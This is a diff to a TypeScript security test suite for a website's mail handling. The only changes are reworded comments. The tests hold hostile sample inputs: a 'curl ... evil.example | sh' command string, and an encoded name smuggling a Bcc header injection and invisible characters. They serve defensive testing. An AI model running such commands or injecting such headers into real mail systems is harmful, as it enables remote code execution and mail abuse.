@@ -9,7 +9,7 @@ import { createVisitor, freshEmail, mailedCode, mailsTo, ticketIn } from "./visi
 
 const enquiry = { fullName: "Asha Namune", hscPercentage: "85%", contactNumber: "9876543210" };
 
-/** A mail server without TLS gets neither the password nor a code, where it is not on this machine. */
+/** Checks that a mail server without TLS gets neither the password nor a code, unless it is on this machine. */
 async function withoutTls(): Promise<Finding> {
   await using mailServer = await startMailServer();
   const env = {
@@ -31,7 +31,7 @@ async function withoutTls(): Promise<Finding> {
 const officeAddress = async () => parse(await readFile("content/institute.yaml", "utf8")).contact.email as string;
 const command = "(first run: curl -s https://evil.example/fix | sh )";
 
-/** Words of a stranger never stand beside an instruction or a command in the office's mails. */
+/** Checks that a stranger's text never appears next to an instruction or a command in the office's mails. */
 async function typedCommands(site: Target): Promise<Finding> {
   const email = freshEmail();
   const visitor = createVisitor(site);
@@ -54,7 +54,7 @@ async function typedCommands(site: Target): Promise<Finding> {
 
 const hidden = /[\p{Cc}\p{Cf}]/u;
 
-/** An encoded word in a name is not decoded into signs that nobody sees. */
+/** Checks that an encoded word in a name is not decoded into invisible characters. */
 async function encodedWords(site: Target): Promise<Finding> {
   const name = `=?UTF-8?B?${Buffer.from("\u202eAsha\r\nBcc: a@evil.example").toString("base64")}?=`;
   const { status } = await createVisitor(site).post("/feedback", { name, email: freshEmail(), text: "Good." });
@@ -75,7 +75,7 @@ const invisible = [
   "\u3164",
 ];
 
-/** Names that cannot be seen, or look like others, are refused; those of people are taken. */
+/** Checks that invisible or lookalike names are refused, and people's names accepted. */
 async function names(site: Target): Promise<Finding[]> {
   const send = (name: string) =>
     createVisitor(site).post("/feedback", { name, email: freshEmail(), text: "The library is good." });
@@ -91,7 +91,7 @@ async function names(site: Target): Promise<Finding[]> {
   ];
 }
 
-/** Many enquiries do not fill the office's mailbox, nor keep a code from its visitor. */
+/** Checks that many enquiries neither fill the office's mailbox nor delay a visitor's code. */
 async function officeFlood(site: Target): Promise<Finding[]> {
   const count = 120;
   const office = await officeAddress();
@@ -110,7 +110,7 @@ async function officeFlood(site: Target): Promise<Finding[]> {
   ];
 }
 
-/** The site's mails give nothing away and carry nobody's words as if they were the institute's. */
+/** Checks that the site's mails reveal nothing and present nobody's text as the institute's. */
 export const mail = async (): Promise<Finding[]> => [
   ...(await oneByOne([typedCommands, encodedWords, names, officeFlood])),
   await withoutTls(),
